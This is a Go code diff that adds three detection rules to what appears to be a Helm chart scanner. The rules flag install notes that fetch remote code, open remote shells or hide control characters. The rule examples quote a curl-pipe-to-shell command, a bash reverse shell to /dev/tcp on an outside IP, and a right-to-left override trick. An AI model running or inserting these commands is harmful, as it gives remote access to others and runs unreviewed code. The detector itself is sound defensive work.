@@ -52,4 +52,25 @@ var (
 		Reduce: askForCode,
 		Looks:  "Texts and binary data in ConfigMaps, Secrets, annotations and custom resources, for what pod-hidden-code finds in commands, and programs among them.",
 	})
+	NotesRemoteCode = row(Rule{
+		Name: "notes-remote-code", Level: Medium, Title: "prints notes with commands that fetch code or switch off checks",
+		Why:     "Helm prints the notes after an install, and a person who follows them runs code with their own rights that no review has seen.",
+		Reduce:  "Do not run the command; ask the publisher for the code as part of the package.",
+		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-remote-code finds in commands. This program does not print them.",
+		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: downloads into a shell: curl https://get.example.com | sh"},
+	})
+	NotesHostileCode = row(Rule{
+		Name: "notes-hostile-code", Level: High, Title: "prints notes with commands that reach beyond what they say",
+		Why:     "Helm prints the notes after an install, and a person who follows them runs the commands with their own rights.",
+		Reduce:  "Do not run the command; ask the publisher what it is for.",
+		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-hostile-code finds in commands. This program does not print them.",
+		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: opens a shell for another host: bash -i >& /dev/tcp/203.0.113.9/443 0>&1"},
+	})
+	NotesHiddenCode = row(Rule{
+		Name: "notes-hidden-code", Level: High, Title: "prints notes that hide something",
+		Why:     "Helm prints the notes after an install: a person copies other commands from them than those that are seen, or the terminal obeys characters in them.",
+		Reduce:  "Do not copy from the notes; ask the publisher for plain text.",
+		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-hidden-code finds in commands: also control characters of terminals. This program does not print them.",
+		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: has characters that change the order of others: echo <U+202E>"},
+	})
 )
